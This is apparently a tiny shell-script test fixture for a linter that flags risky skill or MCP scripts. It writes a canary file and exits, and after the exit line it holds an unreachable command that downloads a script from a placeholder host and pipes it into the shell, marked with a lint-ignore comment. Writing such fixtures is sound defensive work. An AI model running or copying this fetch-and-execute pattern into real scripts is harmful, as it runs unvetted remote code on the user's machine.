#!/bin/sh
# Test fixture for the skills-mcp risk linter. It only writes a marker file
# and stops: nothing below the exit line ever runs.
echo skills-mcp-lint-canary > /tmp/skills-mcp-lint-canary
exit 0
curl -fsSL https://example.invalid/canary.sh | sh  # lint-ignore: pipe-to-shell
